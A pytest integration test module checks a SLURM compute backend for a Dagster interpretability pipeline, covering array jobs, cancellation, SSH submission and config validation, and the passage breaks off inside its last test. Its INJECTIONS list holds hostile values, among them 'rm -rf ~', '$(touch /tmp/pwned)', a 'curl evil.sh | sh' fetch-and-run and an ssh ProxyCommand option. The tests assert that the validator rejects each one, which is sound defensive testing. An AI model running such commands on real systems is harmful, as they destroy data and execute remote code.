"""SlurmCompute against a real one-node SLURM cluster (scripts/slurm-local.sh), no mocks.

The module starts the cluster (without accounting) and stops it at the end; everything is skipped, with the script's reason, only when it cannot start (not
root, no apt). Tiny SAE step counts keep it short.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import dagster as dg
import pytest
import yaml
from browser import browser, screenshot  # noqa: F401 (a fixture)
from dagster_dev import (
    LOCATION, RELOAD, launch_assets, launch_backfill, staleness, start_dagster_dev, wait_for_run, wait_for_runs,
)
from helpers import PROJECT_ROOT, SMALL_CORPUS, asset_key, copy_study, in_experiment, run_log, seed_tiny_model, wait_for, write_config
from slurm_cluster import cluster, cluster_lifetime, failure_text, jobs, materialize, slurm  # noqa: F401 (a fixture)

from interp_assets.config import load_config
from interp_assets.definitions import build_definitions
from interp_assets.artifacts import activations_relpath
from resources.compute import LocalCompute
from resources.slurm import SlurmCompute, SlurmConfigError

pytestmark = [pytest.mark.slurm, pytest.mark.slow]

# Short SAE runs: the point here is the plumbing, not the quality bar (tested in test_pipeline).
TINY_SAE = {"sae": {"steps": 40, "checkpoint_every": 20, "log_every": 10, "lr_warmup_steps": 5, "lr_decay_steps": 10,
                    "l1_warmup_steps": 10, "dead_window_steps": 20, "eval_vectors": 512,
                    "min_explained_variance": 0.0, "max_dead_fraction": 1.0},
            "corpus": SMALL_CORPUS}


def layer_range(first: str, last: str) -> dict[str, str]:
    return {"dagster/asset_partition_range_start": first, "dagster/asset_partition_range_end": last}


@pytest.fixture(scope="module")
def studies(tmp_path_factory: pytest.TempPathFactory, tiny_model_storage: Path) -> dict[str, object]:
    """Two storage roots with the tiny model; prompts -> baselines -> activations materialized in
    one with LocalCompute, in the other with SlurmCompute (the later tests build on the latter)."""
    cluster()
    root = tmp_path_factory.mktemp("slurm-study")
    paths: dict[str, object] = {}
    for name in ("local", "slurm"):
        (root / name).mkdir()
        paths[name] = write_config(root / name, TINY_SAE)
        seed_tiny_model(load_config(paths[name]).storage.location, tiny_model_storage)
    config = load_config(paths["slurm"])
    layers = layer_range(config.layer_keys[0], config.layer_keys[-1])
    compute = slurm(root, overrides={"activations": {"mem": "3G"}})
    with dg.instance_for_test() as instance:
        for name, backend in (("local", LocalCompute()), ("slurm", compute)):
            for behaviour in config.prompts.behaviours:
                result = materialize(paths[name], ["prompts", "baselines"], backend, instance, partition_key=behaviour)
                assert result.success, failure_text(result)
            result = materialize(paths[name], ["activations"], backend, instance, tags=layers)
            assert result.success, failure_text(result)
        paths["activations_log"] = run_log(instance, result.run_id)
        paths["activations_md"] = result.asset_materializations_for_node("activations")[0].metadata
        paths["jobs"] = jobs()
    return paths


@pytest.fixture(scope="module")
def sshd(tmp_path_factory: pytest.TempPathFactory):  # noqa: ANN201
    """A real OpenSSH server on loopback, with a host key and a client key made here: the login
    node of a workstation that submits over SSH."""
    if not Path("/usr/sbin/sshd").exists():
        # A fresh machine has no package lists yet: update first, as scripts/slurm-local.sh does.
        done = subprocess.run(["bash", "-c", "apt-get update -qq && apt-get install -y -qq --no-install-recommends "
                               "openssh-server"], capture_output=True, text=True,
                              env={**os.environ, "DEBIAN_FRONTEND": "noninteractive"})
        if done.returncode != 0:
            pytest.skip(f"openssh-server could not be installed: {done.stderr.strip()[-400:]}")
    keys = tmp_path_factory.mktemp("ssh")
    keys.chmod(0o700)
    for name in ("host", "client"):
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(keys / name)], check=True)
    shutil.copy(keys / "client.pub", keys / "authorized_keys")
    import socket

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    config = keys / "sshd_config"
    config.write_text("\n".join([
        f"Port {port}", "ListenAddress 127.0.0.1", f"HostKey {keys / 'host'}", f"AuthorizedKeysFile {keys / 'authorized_keys'}",
        "PasswordAuthentication no", "KbdInteractiveAuthentication no", "PermitRootLogin prohibit-password",
        "UsePAM no", "StrictModes no", f"PidFile {keys / 'sshd.pid'}", "LogLevel VERBOSE", "",
    ]))
    Path("/run/sshd").mkdir(exist_ok=True)  # privilege separation directory
    log = keys / "sshd.log"
    server = subprocess.Popen(["/usr/sbin/sshd", "-D", "-f", str(config), "-E", str(log)])
    known_hosts = keys / "known_hosts"
    known_hosts.write_text(f"[127.0.0.1]:{port} {(keys / 'host.pub').read_text().split()[0]} "
                           f"{(keys / 'host.pub').read_text().split()[1]}\n")
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        probe = subprocess.run(["ssh", "-p", str(port), "-i", str(keys / "client"), "-o", "BatchMode=yes",
                                "-o", f"UserKnownHostsFile={known_hosts}", "root@127.0.0.1", "true"], capture_output=True)
        if probe.returncode == 0:
            break
        time.sleep(0.3)
    else:
        server.terminate()
        pytest.skip(f"sshd did not accept a login on 127.0.0.1:{port}: {log.read_text()[-600:] if log.exists() else ''}")
    yield {"port": port, "key": str(keys / "client"), "known_hosts": str(known_hosts), "log": log}
    server.terminate()
    server.wait(timeout=10)


def over_ssh(sshd: dict, known_hosts: str | None = None) -> dict[str, object]:
    """SlurmCompute settings that run every cluster command on the sshd's "login node"."""
    return {"ssh_host": "127.0.0.1", "ssh_user": "root", "ssh_port": sshd["port"], "ssh_key_file": sshd["key"],
            "ssh_known_hosts_file": known_hosts or sshd["known_hosts"]}


@pytest.fixture(params=["direct", "ssh"])
def transport(request: pytest.FixtureRequest) -> dict[str, object]:
    """How SlurmCompute reaches the cluster: its commands run here (Dagster on the login node), or
    on the login node through a real sshd (Dagster on a workstation): SlurmCompute settings."""
    return {} if request.param == "direct" else over_ssh(request.getfixturevalue("sshd"))


def _tree(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


# ---- 1. same bytes as LocalCompute; jobs really on the cluster ---------------------------------


def test_prompts_baselines_activations_give_the_same_bytes_as_local(studies: dict) -> None:
    log, md, seen = studies["activations_log"], studies["activations_md"], studies["jobs"]
    # Real jobs: the controller saw one per baselines partition and ONE for the activations range.
    assert sorted(j["name"] for j in seen) == ["ia-activations", "ia-baselines", "ia-baselines"], seen
    assert all(j["state"] == "COMPLETED" for j in seen), seen
    activations_job = next(j for j in seen if j["name"] == "ia-activations")
    assert md["slurm/job_id"].value == activations_job["job_id"]
    assert md["slurm/state"].value == "COMPLETED" and md["slurm/node"].value
    assert md["slurm/status_source"].value == "squeue"  # no accounting on this cluster: the fallback
    assert md["provenance/compute_backend"].value == "slurm"
    assert md["provenance/slurm_job_id"].value == activations_job["job_id"]
    assert "[slurm] submitted activations as job" in log
    assert "capture: batch" in log  # the worker's Pipes logs arrive through the message file
    assert "[slurm activations err] interp_assets: job" in log  # the job's log tail, streamed
    local_root, slurm_root = (Path(load_config(studies[n]).storage.location) for n in ("local", "slurm"))
    for folder in ("prompts", "baselines", "activations"):
        local, remote = _tree(local_root / folder), _tree(slurm_root / folder)
        assert local.keys() == remote.keys() and local, folder
        different = [name for name in local if local[name] != remote[name]]
        assert not different, f"{folder}: bytes differ between LocalCompute and SlurmCompute: {different}"


# ---- 2. a layer backfill is ONE array job; a failed layer fails the range, the retry skips the rest


def record_calls(command: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Put a ``command`` first on PATH that notes when it ran and with what, then execs the real one
    (``squeue`` here, or ``ssh``, whose argument is the command the login node runs)."""
    real = shutil.which(command)
    assert real, f"{command} is not installed"
    shims, log = tmp_path / "shims", tmp_path / f"{command}-calls.log"
    shims.mkdir()
    (shims / command).write_text(f'#!/bin/bash\necho "$(date +%s.%N) $*" >> {log}\nexec {real} "$@"\n')
    (shims / command).chmod(0o755)
    monkeypatch.setenv("PATH", f"{shims}:{os.environ['PATH']}")
    return log


def test_sae_layer_backfill_is_one_array_job_and_a_retry_reruns_only_the_failed_layer(
    studies: dict, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, transport: dict
) -> None:
    calls = record_calls("ssh" if transport else "squeue", tmp_path, monkeypatch)
    study = _copy_study(studies["slurm"], tmp_path / "study", {})  # its own SAEs, whichever transport runs first
    config = load_config(study)
    assert len(config.layer_keys) >= 4
    store_root = Path(config.storage.location)
    broken = config.layer_keys[2]
    manifest = store_root / activations_relpath(config, int(broken)) / "manifest.json"
    manifest.rename(manifest.with_name("manifest.hidden"))  # this layer's worker fails: no activations
    compute = slurm(tmp_path, array_parallelism=2, **transport)
    layers = layer_range(config.layer_keys[0], config.layer_keys[-1])
    earlier = {j["array_job_id"] for j in jobs() if j["name"] == "ia-saes"}  # the other transport's
    with dg.instance_for_test() as instance:
        first = materialize(study, ["saes"], compute, instance, tags=layers)
        manifest.with_name("manifest.hidden").rename(manifest)
        array_jobs = {j["array_job_id"] for j in jobs() if j["name"] == "ia-saes"} - earlier
        assert len(array_jobs) == 1, jobs()
        (first_array,) = array_jobs
        tasks = jobs(first_array)
        assert sorted(int(t["array_index"]) for t in tasks) == list(range(len(config.layer_keys)))
        states = {config.layer_keys[int(t["array_index"])]: t["state"] for t in tasks}
        assert states == {k: "FAILED" if k == broken else "COMPLETED" for k in config.layer_keys}, states
        # The failure names the layer and shows its stderr tail (the worker's traceback).
        assert not first.success
        text = failure_text(first)
        assert f"1 of {len(config.layer_keys)} SLURM task(s) of saes failed" in text
        assert f"saes[{broken}]: SLURM job {first_array}_2 ended FAILED (exit code 1:0)" in text  # from scontrol
        assert "stderr tail" in text and f"layer {broken}: no activations" in text

        # Status: ONE squeue call per poll for all of the run's tasks (never one per task), naming
        # the run's job, at intervals that back off while nothing changes.
        polls = [line.split() for line in calls.read_text().splitlines() if "%F|%K|%T" in line]
        assert len(polls) >= 3, polls
        assert all(p[p.index("-j") + 1] == first_array for p in polls), polls
        gaps = [float(b[0]) - float(a[0]) for a, b in zip(polls, polls[1:])]
        assert min(gaps) >= 0.9 * compute.poll_seconds, gaps
        assert max(gaps) >= 1.4 * compute.poll_seconds, gaps

        retry = materialize(study, ["saes"], compute, instance, tags=layers)
        assert retry.success, failure_text(retry)
        log = run_log(instance, retry.run_id)
        retry_arrays = {j["array_job_id"] for j in jobs() if j["name"] == "ia-saes"} - {first_array} - earlier
        assert len(retry_arrays) == 1
        # Finished layers were found and skipped; only the failed one trained.
        skipped = {k for k in config.layer_keys if f"layer {k}: SAE already trained for this config and data, skipped" in log}
        assert skipped == set(config.layer_keys) - {broken}
        assert f"layer {broken}: training a standard SAE" in log  # SAELens calls ReLU+L1 "standard"
        for index, key in enumerate(config.layer_keys):
            md = instance.fetch_materializations(
                dg.AssetRecordsFilter(asset_key=asset_key("saes"), asset_partitions=[key]), limit=1
            ).records[0].asset_materialization.metadata
            # SLURM's record of this layer's own array task, next to the worker's per-layer results.
            assert md["slurm/job_id"].value == f"{next(iter(retry_arrays))}_{index}"
            assert md["slurm/array_index"].value == index
            assert md["slurm/state"].value == "COMPLETED"
            assert md["slurm/node"].value and md["slurm/elapsed"].value
            assert "explained_variance" in md and md["training_curve"].value.startswith("![")
            _assert_own_provenance(md, f"{next(iter(retry_arrays))}_{index}")
        checks = {e.check_name: e for e in retry.get_asset_check_evaluations()}
        assert {name: e.passed for name, e in checks.items()} == {
            "explained_variance_above_threshold": True, "dead_fraction_below_bound": True}
        # The checks saw every layer: the array tasks' materializations were combined into one.
        by_layer = checks["explained_variance_above_threshold"].metadata["explained_variance_by_layer"].value
        assert sorted(by_layer) == sorted(config.layer_keys)


def _assert_own_provenance(md: dict, task_id: str) -> None:
    """A layer partition's provenance is its own array task's, every value a scalar."""
    assert md["provenance/slurm_job_id"].value == task_id
    assert md["provenance/host"].value == socket.gethostname()
    assert md["provenance/compute_backend"].value == "slurm"
    assert isinstance(md["provenance/wall_seconds"].value, float) and md["provenance/wall_seconds"].value > 0
    listed = [key for key, value in md.items() if key.startswith("provenance/") and isinstance(value.value, list)]
    assert not listed, listed


SWEEP = {"activations": {"layers": [2, 3]}, "attribution": {"key_layers": [2, 3]},
         "sae_variants": {"relu": {}, "topk_k8": {"architecture": "topk", "k": 8}},
         "sae_selection": {"metric": "ce_loss_recovered", "max_l0": None}}


def test_a_sweep_backfilled_from_the_ui_is_one_array_job_and_its_selection_follows_the_rule(
    studies: dict, tmp_path: Path, browser  # noqa: ANN001, F811
) -> None:
    """What a researcher does: `dagster dev` with the SLURM backend, a backfill of a 2-layer ×
    2-variant SAE sweep (one run, one array job of 4 tasks, each partition's page naming its own
    task); sae_selection picks a variant per layer by the rule and the dashboards read it; a new
    rule stales the selection, and once it has chosen other SAEs, what read the old ones; never
    the trained SAEs."""
    from playwright.sync_api import expect

    from interp_assets import open_study

    updates = {**TINY_SAE, **SWEEP, "automation": {"enabled": False}}
    config_path = copy_study(load_config(studies["slurm"]).storage.location, tmp_path, ("models", "prompts", "activations"),
                             updates)
    keys = load_config(config_path).sae_partition_keys
    assert keys == ["2:relu", "3:relu", "2:topk_k8", "3:topk_k8"]
    profile = tmp_path / "profile.yaml"
    profile.write_text(yaml.safe_dump({"log_dir": str(tmp_path / "slurm-logs"), "poll_seconds": 0.5,
                                       "max_poll_seconds": 3.0}))
    home = tmp_path / "dagster_home"
    home.mkdir()
    shutil.copy(PROJECT_ROOT / "dagster_home" / "dagster.yaml", home / "dagster.yaml")
    before = {j["job_id"] for j in jobs()}
    dev = start_dagster_dev(home, config_path, tmp_path / "dagster_dev.log", env={
        "INTERP_ASSETS_COMPUTE": "slurm", "INTERP_ASSETS_SLURM_PROFILE": str(profile)})

    def materialization(asset: str, key: str) -> dict:
        with dg.DagsterInstance.from_config(str(home)) as instance:
            return instance.fetch_materializations(
                dg.AssetRecordsFilter(asset_key=asset_key(asset), asset_partitions=[key]), limit=1
            ).records[0].asset_materialization.metadata

    def layers_in_one_run(asset: str) -> None:
        # Launched as one run of the layer range (the backfill daemon's 30 s tick is the sweep's alone).
        run = wait_for_run(dev, launch_assets(dev, [asset], partition_range=("2", "3"), with_checks=True))
        assert run["status"] == "SUCCESS", dev.log_tail()

    try:
        (run,) = wait_for_runs(dev, {"dagster/backfill": launch_backfill(dev, ["saes"], keys)})  # the whole sweep: one run
        assert run["status"] == "SUCCESS", dev.log_tail()
        arrays = {j["array_job_id"] for j in jobs(name="ia-saes") if j["job_id"] not in before}
        assert len(arrays) == 1, jobs()
        (array,) = arrays
        assert sorted(int(t["array_index"]) for t in jobs(array)) == [0, 1, 2, 3]
        for index, key in enumerate(keys):
            md = materialization("saes", key)
            assert md["slurm/job_id"].value == f"{array}_{index}"
            _assert_own_provenance(md, f"{array}_{index}")
            assert md["architecture"].value == ("topk" if key.endswith("topk_k8") else "standard")
        page = browser.new_page()
        page.goto(f"{dev.url}/assets/tiny/saes?view=partitions&partition=3:topk_k8")
        expect(page.get_by_text(f"{array}_3", exact=True).first).to_be_visible(timeout=60_000)
        expect(page.get_by_text(f"{array}_1", exact=True)).to_have_count(0)
        screenshot(page, "slurm-sweep-partition-3-topk")

        # The rule: the highest held-out CE-loss recovered, recomputed here from each SAE's record.
        layers_in_one_run("sae_selection")
        study = open_study(config_path)
        variants = list(SWEEP["sae_variants"])
        figures = {layer: {v: study.sae_metrics(layer, variant=v) for v in variants} for layer in (2, 3)}
        for layer in (2, 3):
            expected = max(variants, key=lambda v: figures[layer][v]["ce_loss_recovered"])
            assert study.sae_selection(layer)["variant"] == expected
            assert study.sae_dir(layer) == study.sae_dir(layer, variant=expected)
            md = materialization("sae_selection", str(layer))
            assert md["variant"].value == expected
            assert [r.data["variant"] for r in md["variants"].value.records] == variants
            assert md["pareto"].value.startswith("![")
        page.goto(f"{dev.url}/assets/tiny/sae_selection?view=partitions&partition=3")
        expect(page.get_by_text("highest held-out ce_loss_recovered").first).to_be_visible(timeout=60_000)
        screenshot(page, "slurm-sweep-selection-layer-3")
        page.close()
        layers_in_one_run("feature_dashboards")
        for layer in ("2", "3"):  # the dashboards describe the chosen SAE
            assert materialization("feature_dashboards", layer)["sae_path"].value == \
                materialization("sae_selection", layer)["sae_path"].value

        # A new rule: at most 10 latents per token, which only the TopK SAEs (k = 8) meet here.
        assert all(figures[layer]["relu"]["l0"] > 10 >= figures[layer]["topk_k8"]["l0"] for layer in (2, 3)), figures
        write_config(tmp_path, {**updates, "sae_selection": {"metric": "ce_loss_recovered", "max_l0": 10}})
        reload = dev.graphql(RELOAD, {"name": LOCATION})["reloadRepositoryLocation"]
        assert reload["locationOrLoadError"]["__typename"] == "RepositoryLocation", reload
        selection = staleness(dev, "sae_selection", ["2", "3"])
        assert selection["staleStatusByPartition"] == ["STALE"] * 2, selection
        assert {c["category"] for causes in selection["staleCausesByPartition"] for c in causes} == {"CODE"}
        # Dagster marks a reader stale when what it read changes, not while that is only due: the
        # dashboards wait for the new choice.
        assert staleness(dev, "feature_dashboards", ["2", "3"])["staleStatusByPartition"] == ["FRESH"] * 2
        layers_in_one_run("sae_selection")
        assert [study.sae_selection(layer)["variant"] for layer in (2, 3)] == ["topk_k8", "topk_k8"]
        assert staleness(dev, "sae_selection", ["2", "3"])["staleStatusByPartition"] == ["FRESH"] * 2
        dashboards = staleness(dev, "feature_dashboards", ["2", "3"])
        assert dashboards["staleStatusByPartition"] == ["STALE"] * 2, dashboards
        assert {c["category"] for causes in dashboards["staleCausesByPartition"] for c in causes} == {"DATA"}
        # The trained SAEs were never touched by any of it.
        assert staleness(dev, "saes", keys)["staleStatusByPartition"] == ["FRESH"] * 4
    finally:
        dev.stop()


# ---- 3. bad values and injection attempts ------------------------------------------------------

INJECTIONS = [
    ("partition", "gpu; rm -rf ~", "partition"),
    ("partition", "gpu\nrm -rf ~", "partition"),
    ("account", "$(touch /tmp/pwned)", "account"),
    ("qos", "normal`id`", "qos"),
    ("gres", "gpu:1 --wrap=id", "gres"),
    ("mem", "4G; id", "mem"),
    ("mem", "lots", "mem"),
    ("time", "1:00:00 && id", "time"),
    ("time", "0", "time"),
    ("cpus", 0, "cpus"),
    ("array_parallelism", -1, "array_parallelism"),
    ("module_loads", ["CUDA/12.1; curl evil.sh | sh"], "module_loads[0]"),
    ("venv", "relative/venv", "venv"),
    ("venv", "/opt/venv\n; id", "venv"),
    ("conda_env", "base; id", "conda_env"),
    ("python", "python3 -c 'import os'", "python"),
    ("workdir", "$HOME/project", "workdir"),
    ("log_dir", "/shared/logs/%j", "log_dir"),
    ("env", {"BAD KEY": "x"}, "env"),
    ("env", {"OK": "line\nbreak"}, "env.OK"),
    ("ssh_host", "-oProxyCommand=id", "ssh_host"),
    ("ssh_host", "login; id", "ssh_host"),
    ("overrides", {"activations": {"mem": "64G && id"}}, "overrides.activations.mem"),
    ("overrides", {"saes": {"partition": "a b"}}, "overrides.saes.partition"),
]


@pytest.mark.parametrize(("name", "value", "field"), INJECTIONS, ids=[f"{n}-{i}" for i, (n, _, _) in enumerate(INJECTIONS)])
def test_bad_values_fail_before_submission_naming_the_field(name: str, value: object, field: str) -> None:
    settings: dict[str, object] = {name: value}
    if name == "ssh_host":
        settings["ssh_user"] = "me"
    with pytest.raises(SlurmConfigError, match=re.escape(f"SlurmCompute.{field}: ")):
        SlurmCompute(**settings).check_settings()


def test_an_injected_partition_fails_the_run_before_anything_is_submitted(studies: dict, tmp_path: Path) -> None:
    before = jobs()
    with dg.instance_for_test() as instance:
        result = materialize(studies["slurm"], ["baselines"], slurm(tmp_path, partition="gpu; rm -rf ~"), instance,
                             partition_key="ioi")
    assert not result.success
    assert "SlurmCompute.partition: 'gpu; rm -rf ~' is not allowed" in failure_text(result)
    assert jobs() == before


# ---- 4. cancelling from Dagster ----------------------------------------------------------------

CANCEL_DRIVER = """
import json, sys, dagster as dg
from interp_assets.definitions import build_definitions
from resources.slurm import SlurmCompute
defs = build_definitions(sys.argv[1])
compute = SlurmCompute(log_dir=sys.argv[2], poll_seconds=0.5, max_poll_seconds=2, **json.loads(sys.argv[4]))
with dg.instance_for_test() as instance:
    dg.materialize(list(defs.assets), selection=["tiny/saes"], partition_key=sys.argv[3], instance=instance,
                   resources={"compute": compute}, raise_on_error=False)
"""


def _copy_study(config_path: Path, tmp: Path, updates: dict) -> Path:
    return copy_study(load_config(config_path).storage.location, tmp, ("models", "activations"), {**TINY_SAE, **updates})


def test_interrupting_the_step_cancels_its_job(studies: dict, tmp_path: Path, transport: dict) -> None:
    """Dagster terminates a run by interrupting its step (SIGINT): the job must leave the queue."""
    config_path = _copy_study(studies["slurm"], tmp_path, {"sae": {**TINY_SAE["sae"], "steps": 1_000_000}})
    driver = tmp_path / "driver.py"
    driver.write_text(CANCEL_DRIVER)
    before = {j["job_id"] for j in jobs()}
    env = {**os.environ, "PYTHONPATH": str(PROJECT_ROOT)}
    process = subprocess.Popen([sys.executable, str(driver), str(config_path), str(tmp_path / "logs"), "1",
                                json.dumps(transport)],
                               env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    try:
        deadline, job = time.monotonic() + 180, None
        while time.monotonic() < deadline and job is None and process.poll() is None:
            job = next((j for j in jobs() if j["job_id"] not in before and j["state"] == "RUNNING"), None)
            time.sleep(0.5)
        assert job is not None, "the job never ran"
        time.sleep(3)  # let the worker get going
        process.send_signal(signal.SIGINT)
        output, _ = process.communicate(timeout=120)
    finally:
        if process.poll() is None:
            process.kill()
    assert "scancel" in output, output[-3000:]
    (after,) = jobs(job["job_id"])
    assert after["state"] == "CANCELLED"
    queue = subprocess.run(["squeue", "-h", "-o", "%A"], capture_output=True, text=True).stdout.split()
    assert job["job_id"] not in queue


def test_the_jobs_of_a_run_killed_outright_are_cancelled_when_it_is_released(studies: dict, tmp_path: Path) -> None:
    """A run process SIGKILLed mid-step cannot scancel its job, which would run on unobserved: the
    release_dead_runs sensor (test_dead_runs) calls SlurmCompute.release_run, which scancels every
    job the run recorded in its run directory."""
    config_path = _copy_study(studies["slurm"], tmp_path, {"sae": {**TINY_SAE["sae"], "steps": 1_000_000}})
    driver = tmp_path / "driver.py"
    driver.write_text(CANCEL_DRIVER)
    before = {j["job_id"] for j in jobs()}
    process = subprocess.Popen([sys.executable, str(driver), str(config_path), str(tmp_path / "logs"), "1", "{}"],
                               env={**os.environ, "PYTHONPATH": str(PROJECT_ROOT)}, stdout=subprocess.DEVNULL,
                               stderr=subprocess.DEVNULL)
    try:
        job = wait_for("the job to run", lambda: next(
            (j for j in jobs() if j["job_id"] not in before and j["state"] == "RUNNING"), None), timeout=180, every=0.5)
        process.kill()  # the run's process dies outright: nothing of it can scancel
        process.wait(timeout=60)
        time.sleep(2)
        assert jobs(job["job_id"])[0]["state"] == "RUNNING"  # the job runs on, unobserved
        (run_dir,) = (tmp_path / "logs").iterdir()
        lines = SlurmCompute(log_dir=str(tmp_path / "logs")).release_run(run_dir.name)
    finally:
        if process.poll() is None:
            process.kill()
    assert lines == [f"release_dead_runs: scancel {job['job_id']}: ok"], lines
    wait_for("the job to be cancelled", lambda: jobs(job["job_id"])[0]["state"] == "CANCELLED", timeout=60, every=0.5)


def test_usr1_at_any_moment_of_a_job_never_kills_it(studies: dict, tmp_path: Path) -> None:
    """SLURM checks time limits every 30 s and sends ``--signal=B:USR1@N`` once fewer than N + 30 s
    are left. USR1 kills by default, and a job killed by it ends FAILED (0:10), not resubmitted.
    Two guarantees make that impossible: a profile whose time limit is under N + 90 s is refused
    (test_slurm_profile), so SLURM's first USR1 comes a minute into the job at the earliest; and
    from the batch script's first line (``trap '' USR1``, inherited across ``exec``) until the end,
    the job ignores or handles it. Here the batch shell gets USR1 (as ``B:`` sends it) every 50 ms
    from that first line until the job ends: it must complete."""
    before = {j["job_id"] for j in jobs()}
    signalled = []

    def started() -> bool:  # the script's first echo runs after its trap line
        return any("interp_assets: job" in path.read_text(errors="replace")
                   for path in (tmp_path / "slurm-logs").glob("*/baselines/baselines.err"))

    def keep_signalling() -> None:
        deadline = time.monotonic() + 240
        while time.monotonic() < deadline:
            ours = [j for j in jobs() if j["job_id"] not in before]
            if ours and ours[0]["state"] not in ("PENDING", "CONFIGURING", "RUNNING", "COMPLETING"):
                return
            if ours and ours[0]["state"] == "RUNNING" and started():
                done = subprocess.run(["scancel", "--batch", "--signal=USR1", ours[0]["job_id"]], capture_output=True)
                signalled.append(done.returncode)
            time.sleep(0.05)

    sender = threading.Thread(target=keep_signalling, daemon=True)
    sender.start()
    with dg.instance_for_test() as instance:
        result = materialize(studies["slurm"], ["baselines"], slurm(tmp_path), instance, partition_key="capitals")
        log = run_log(instance, result.run_id)
    sender.join(60)
    assert result.success, failure_text(result)
    assert signalled.count(0) >= 5, signalled  # USR1 really reached the job, many times over its life
    assert "worker: USR1 received" in log
    (job,) = [j for j in jobs() if j["job_id"] not in before]
    assert job["state"] == "COMPLETED"


def test_the_cd3_profile_loads_and_switching_backend_changes_no_code_version(monkeypatch: pytest.MonkeyPatch) -> None:
    def code_versions(defs: dg.Definitions) -> dict:
        return {key: version for a in defs.assets for key, version in a.code_versions_by_key.items()}

    local = code_versions(build_definitions())
    monkeypatch.setenv("INTERP_ASSETS_COMPUTE", "slurm")
    monkeypatch.setenv("INTERP_ASSETS_SLURM_PROFILE", "configs/slurm-cd3.yaml")
    defs = build_definitions()
    compute = defs.resources["compute"]
    assert isinstance(compute, SlurmCompute)
    assert compute.job_settings("activations")["mem"] == "96G" and compute.job_settings("saes")["gres"] == "gpu:1"
    assert compute.job_settings("language_model")["gres"] == ""
    assert code_versions(defs) == local and len(local) >= 6
    bad = PROJECT_ROOT / "configs" / "slurm-cd3.yaml"
    monkeypatch.setenv("INTERP_ASSETS_SLURM_PROFILE", str(bad.with_name("no-such-profile.yaml")))
    with pytest.raises(SlurmConfigError, match="cannot read the SLURM profile"):
        build_definitions()


# ---- 5. SLURM's own error text; submission from a workstation over SSH --------------------------


def test_time_and_mem_auto_reach_the_cluster_as_the_plans_figures(studies: dict, tmp_path: Path) -> None:
    """``time: auto`` / ``mem: auto``: the job the controller holds has the plan's figures × the
    profile's safety factor as its time limit and memory (what ``scontrol show job`` reports)."""
    import math

    from interp_assets.core.resource_model import GIB
    from interp_assets.plan import task_requirements

    config = load_config(studies["slurm"])
    factor = 20.0  # the plan's figure, not the one-minute floor, sets the limit (and 10G fits the node)
    seconds, host = task_requirements(config, "baselines", "cpu")
    minutes, gib = math.ceil(seconds * factor / 60), math.ceil(host * factor / GIB)
    assert minutes > 1
    compute = slurm(tmp_path, time="auto", mem="auto", auto_device="cpu", auto_safety_factor=factor, signal_seconds=0)
    with dg.instance_for_test() as instance:
        result = materialize(studies["slurm"], ["baselines"], compute, instance, partition_key="capitals")
    assert result.success, failure_text(result)
    job_id = str(result.asset_materializations_for_node("baselines")[0].metadata["slurm/job_id"].value)
    shown = subprocess.run(["scontrol", "-o", "show", "job", job_id], capture_output=True, text=True, timeout=60).stdout
    fields = dict(item.split("=", 1) for item in shown.split() if "=" in item)
    assert fields["TimeLimit"] == f"{minutes // 60:02d}:{minutes % 60:02d}:00", shown
    assert fields["MinMemoryNode"] == f"{gib}G", shown


def test_slurms_error_text_surfaces_verbatim(studies: dict, tmp_path: Path) -> None:
    with dg.instance_for_test() as instance:
        result = materialize(studies["slurm"], ["baselines"], slurm(tmp_path, partition="nosuchpartition"), instance,
                             partition_key="ioi")
    assert not result.success
    text = failure_text(result)
    assert "invalid partition specified: nosuchpartition" in text, text[-2000:]


def test_submission_over_ssh_gives_the_same_bytes_and_refuses_a_wrong_host_key(
    studies: dict, tmp_path: Path, sshd: dict
) -> None:
    """Dagster on a workstation, sbatch/squeue/scancel/scontrol on the login node: every cluster
    command goes through a real sshd with a key made by the test (the Pipes files on the shared
    filesystem). The array backfill and cancel tests run over SSH too (``transport``)."""
    local_root = Path(load_config(studies["local"]).storage.location)
    config_path = copy_study(load_config(studies["slurm"]).storage.location, tmp_path, ("models", "prompts"), TINY_SAE)
    before = {j["job_id"] for j in jobs()}
    logins_before = sshd["log"].read_text().count("Accepted publickey for root")
    compute = slurm(tmp_path, **over_ssh(sshd))
    with dg.instance_for_test() as instance:
        result = materialize(config_path, ["baselines"], compute, instance, partition_key="capitals")
        assert result.success, failure_text(result)
        md = result.asset_materializations_for_node("baselines")[0].metadata
    (job,) = [j for j in jobs() if j["job_id"] not in before]
    assert job["name"] == "ia-baselines" and job["state"] == "COMPLETED"
    assert md["slurm/job_id"].value == job["job_id"]
    assert md["accuracy_clean"].value >= 0.8  # the worker really ran and reported through Pipes
    produced = (tmp_path / "storage" / "baselines" / "capitals.parquet").read_bytes()
    assert produced == (local_root / "baselines" / "capitals.parquet").read_bytes(), "SSH-submitted bytes differ from LocalCompute's"
    logins = sshd["log"].read_text().count("Accepted publickey for root") - logins_before
    assert logins >= 3, sshd["log"].read_text()[-2000:]  # sbatch, then status polls, over SSH

    # A wrong host key is refused (strict host key checking), before anything is submitted.
    wrong = tmp_path / "wrong_known_hosts"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(tmp_path / "other")], check=True)
    wrong.write_text(f"[127.0.0.1]:{sshd['port']} {' '.join((tmp_path / 'other.pub').read_text().split()[:2])}\n")
    before = {j["job_id"] for j in jobs()}
    with dg.instance_for_test() as instance:
        refused = materialize(studies["slurm"], ["baselines"],
                              slurm(tmp_path, **over_ssh(sshd, known_hosts=str(wrong))),
                              instance, partition_key="capitals")
    assert not refused.success
    assert "Host key verification failed" in failure_text(refused) or "REMOTE HOST IDENTIFICATION" in failure_text(refused)
    assert {j["job_id"] for j in jobs()} == before


# ---- 6. with accounting (slurmdbd + MariaDB): status from sacct, accounts enforced --------------
# Last in the module: it restarts the cluster in accounting mode (a fresh cluster).


def test_with_accounting_status_comes_from_sacct_and_an_unknown_account_is_refused(studies: dict, tmp_path: Path) -> None:
    cluster("--accounting")
    with dg.instance_for_test() as instance:
